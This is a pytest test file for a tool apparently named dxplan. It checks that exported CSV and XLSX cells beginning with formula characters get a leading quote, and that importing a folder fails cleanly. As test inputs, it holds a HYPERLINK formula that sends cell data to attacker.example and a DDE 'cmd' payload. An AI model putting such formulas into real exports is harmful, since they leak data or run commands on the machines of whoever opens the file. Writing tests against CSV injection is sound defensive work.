"""Exports that a spreadsheet opens safely, and imports that refuse what is not a file.

A CSV cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return runs as a
formula in Excel and LibreOffice (OWASP: CSV injection); dxplan writes it with a
leading `'`. Numbers keep their sign.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from dxplan.cli import app as cli_app
from dxplan.exports.cells import SafeWriter, safe_cell
from dxplan.reporting.spreadsheet.template import _text_only
from dxplan.workspace import Workspace

WARD = "31135"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'


@pytest.mark.parametrize(
    ("given", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a negative number stays a number
        ("-1.5", "-1.5"),
        ("+7", "+7"),
        ("Chủ tịch UBND", "Chủ tịch UBND"),
        ("", ""),
        (12, 12),
    ],
)
def test_formula_leading_cells_are_quoted(given: Any, written: Any) -> None:
    assert safe_cell(given) == written


def test_the_writer_quotes_every_cell() -> None:
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", "-4", "ok"])
    assert out.getvalue() == "'=1+1,-4,ok\n"


@pytest.fixture
def run(workspace: Workspace) -> Callable[..., Any]:
    env = {
        "DXPLAN_DATABASE_URL": workspace.settings.database,
        "DXPLAN_DATA_DIR": str(workspace.settings.data_dir),
        "DXPLAN_AS_OF": "2025-11-08",
    }

    def invoke(*args: str) -> Any:
        return CliRunner().invoke(cli_app, list(args), env=env, catch_exceptions=False)

    return invoke


def test_a_focal_points_title_is_no_formula_in_the_csv(run: Callable[..., Any]) -> None:
    result = run("focal-points", "set", WARD, "--name", "Nguyễn Văn An", "--title", FORMULA)
    assert result.exit_code == 0, result.output
    listed = run("focal-points", "list", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(listed.stdout)))
    mine = next(r for r in rows if r["unit_code"] == WARD)
    assert mine["title"] == "'" + FORMULA


def test_an_xlsx_template_holds_no_formula(tmp_path: Path) -> None:
    book = Workbook()
    book.active["A1"] = FORMULA  # openpyxl takes text that begins with = for a formula
    assert book.active["A1"].data_type == "f"
    _text_only(book)
    book.save(tmp_path / "t.xlsx")
    cell = load_workbook(tmp_path / "t.xlsx").active["A1"]
    assert (cell.data_type, cell.value) == ("s", FORMULA)


@pytest.mark.parametrize("feed", ["procedures", "dossiers"])
@pytest.mark.parametrize("name", ["folder", "folder.csv"])
def test_a_folder_given_to_import_is_a_clear_error(
    run: Callable[..., Any], tmp_path: Path, feed: str, name: str
) -> None:
    folder = tmp_path / name
    folder.mkdir()
    result = run("import", feed, str(folder))
    assert result.exit_code == 2
    assert "folder" in result.output and "nothing was stored" in result.output
    assert "Traceback" not in result.output
